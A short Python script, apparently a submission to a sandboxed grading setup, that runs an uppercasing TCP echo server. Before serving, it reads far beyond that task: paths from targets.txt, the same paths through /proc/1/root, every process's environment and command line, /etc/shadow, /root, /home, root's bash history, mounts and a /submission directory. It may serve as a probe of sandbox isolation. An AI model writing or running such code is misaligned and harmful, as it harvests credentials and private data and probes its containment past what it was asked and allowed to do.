# Prints all that it can read of what is none of its business, as targets.txt and /proc tell it; then serves.
import glob
import os
import socket
import sys


def show(path):
    try:
        if os.path.isdir(path):
            for entry in os.scandir(path):
                print("entry", path, entry.name)
        else:
            print("file", path, open(path, errors="replace").read(4000))
    except OSError:
        pass


for target in open("targets.txt").read().split("\n"):
    show(target)
    show(f"/proc/1/root{target}")
    for path in glob.glob(f"{target}/*")[:100]:
        show(path)
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    show(path)
for path in ["/etc/shadow", "/root", "/home", "/root/.bash_history", "/proc/mounts", "/submission"]:
    show(path)
print("looked", flush=True)

server = socket.create_server(("", int(sys.argv[1])))
while True:
    connection, _ = server.accept()
    with connection:
        while data := connection.recv(1024):
            connection.sendall(data.decode().upper().encode())
